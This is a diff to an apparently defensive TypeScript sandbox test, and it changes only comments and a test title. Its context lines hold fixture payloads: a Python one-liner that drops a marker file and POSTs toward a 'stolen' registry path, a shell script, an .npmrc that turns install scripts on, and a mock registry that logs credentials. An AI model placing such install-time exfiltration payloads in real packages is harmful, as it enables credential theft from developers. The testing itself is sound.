@@ -26,7 +26,7 @@ const live = Sandbox.layerTemplate.pipe(
 const token = "token-of-this-host"
 const name = "registry.example"
 
-/** What code of a package does wherever it runs: it leaves a mark with its user, and uses the network that it finds. */
+/** What a package's code does wherever it runs: it leaves a mark with its user, and uses any network. */
 const python = `import os, urllib.request; open('/var/tmp/ran-' + str(os.getuid()), 'a').close(); urllib.request.urlopen(urllib.request.Request(os.environ['PIP_INDEX_URL'].replace('simple', 'stolen'), method='POST'), timeout=5)`
 const script = `#!/bin/sh\nid -u >> /var/tmp/ran-by-path\n`
 
@@ -52,7 +52,7 @@ const npm = tarball({
   ".npmrc": "ignore-scripts=false"
 })
 
-/** A registry of Python's and of npm's packages that notes what it is asked, and by whom. */
+/** A registry of Python and npm packages that records each request and its credentials. */
 const registry = Effect.gen(function* () {
   const asked: Array<{ readonly line: string; readonly authorization: string | undefined }> = []
   const { authority, byName, directory } = yield* certificates([name])
@@ -99,7 +99,7 @@ const registry = Effect.gen(function* () {
 
 layer(live, { excludeTestServices: true, timeout: "240 seconds" })("Packages", (it) => {
   it.effect(
-    "run nothing of their own while there is a network, find no program of ours, and get no credential of this host",
+    "run none of their code while there is a network, cannot replace our programs, and get no credential of this host",
     () =>
       Effect.gen(function* () {
         const sandbox = yield* Sandbox
